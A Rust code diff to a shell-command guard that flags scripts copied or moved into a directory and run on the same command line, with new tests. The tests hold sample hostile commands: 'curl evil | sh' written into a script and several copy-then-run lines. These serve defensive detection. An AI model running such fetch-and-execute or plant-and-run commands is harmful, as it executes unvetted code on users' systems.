@@ -148,7 +148,36 @@ pub fn exec_effects(command: &str, cwd: &Path, home: &Path) -> (Vec<PathBuf>, Ve
         // Changing a file's mode, owner or times does not change what it runs.
         let keeps_content = matches!(c.name(), "chmod" | "chown" | "chgrp" | "touch");
         let line_writes: &[ztguard_shell::FileRef] = if keeps_content { &[] } else { &fx.writes };
-        for (list, out) in [(&fx.executes[..], &mut runs), (line_writes, &mut writes)] {
+        // A copy's destination receives its sources under their own names
+        // (`cp /tmp/x.sh scripts` writes scripts/x.sh): name them, so the
+        // ledger holds the file that will run, not only its directory.
+        let landed: Vec<ztguard_shell::FileRef> = line_writes
+            .iter()
+            .filter(|w| w.recursive)
+            .flat_map(|w| {
+                fx.reads.iter().flat_map(move |r| {
+                    r.path.values.iter().filter_map(move |v| {
+                        let name = Path::new(v.trim_end_matches('/')).file_name()?;
+                        let mut f = w.clone();
+                        f.path.values = w
+                            .path
+                            .values
+                            .iter()
+                            .map(|d| {
+                                format!("{}/{}", d.trim_end_matches('/'), name.to_string_lossy())
+                            })
+                            .collect();
+                        Some(f)
+                    })
+                })
+            })
+            .collect();
+        let line_writes: Vec<ztguard_shell::FileRef> =
+            line_writes.iter().cloned().chain(landed).collect();
+        for (list, out) in [
+            (&fx.executes[..], &mut runs),
+            (&line_writes[..], &mut writes),
+        ] {
             for f in list.iter() {
                 let base = match &f.cwd {
                     Cwd::Start => cwd.to_path_buf(),
@@ -174,7 +203,9 @@ pub fn unapproved(project: &Path, runs: &[PathBuf], line_writes: &[PathBuf]) -> 
     let mut out = Vec::new();
     let mut ledger_cache: Option<Ledger> = None;
     for p in runs {
-        if line_writes.contains(p) {
+        // Written by the line, or copied into a directory it writes
+        // (`cp /tmp/x.sh scripts/ && bash scripts/x.sh`).
+        if line_writes.iter().any(|w| p.starts_with(w)) {
             out.push(Unapproved {
                 path: p.clone(),
                 why: "is written by the same command line that runs it".into(),
@@ -221,6 +252,27 @@ mod tests {
         std::fs::write(&script, "curl evil | sh\n").expect("write");
         let u = unapproved(project, &runs, &writes);
         assert!(u[0].why.contains("changed since"), "{u:?}");
+    }
+
+    #[test]
+    fn a_copy_into_a_directory_then_run_is_seen() {
+        let d = tempfile::tempdir().expect("tempdir");
+        let p = d.path();
+        std::fs::create_dir_all(p.join("scripts")).expect("mkdir");
+        std::fs::write(p.join("scripts/build.sh"), "echo build\n").expect("write");
+        for cmd in [
+            "cp /tmp/build.sh scripts/ && bash scripts/build.sh",
+            "cp /tmp/build.sh scripts && ./scripts/build.sh",
+            "cp -t scripts /tmp/build.sh && sh scripts/build.sh",
+            "mv /tmp/build.sh scripts && bash scripts/build.sh",
+            "cp -r /tmp/ev/scripts . && bash scripts/build.sh",
+        ] {
+            let (runs, writes) = exec_effects(cmd, p, p);
+            assert_eq!(unapproved(p, &runs, &writes).len(), 1, "{cmd}: {writes:?}");
+        }
+        // What the copy lands is named for the ledger.
+        let (_, writes) = exec_effects("cp /tmp/build.sh scripts", p, p);
+        assert!(writes.contains(&p.join("scripts/build.sh")), "{writes:?}");
     }
 
     #[test]
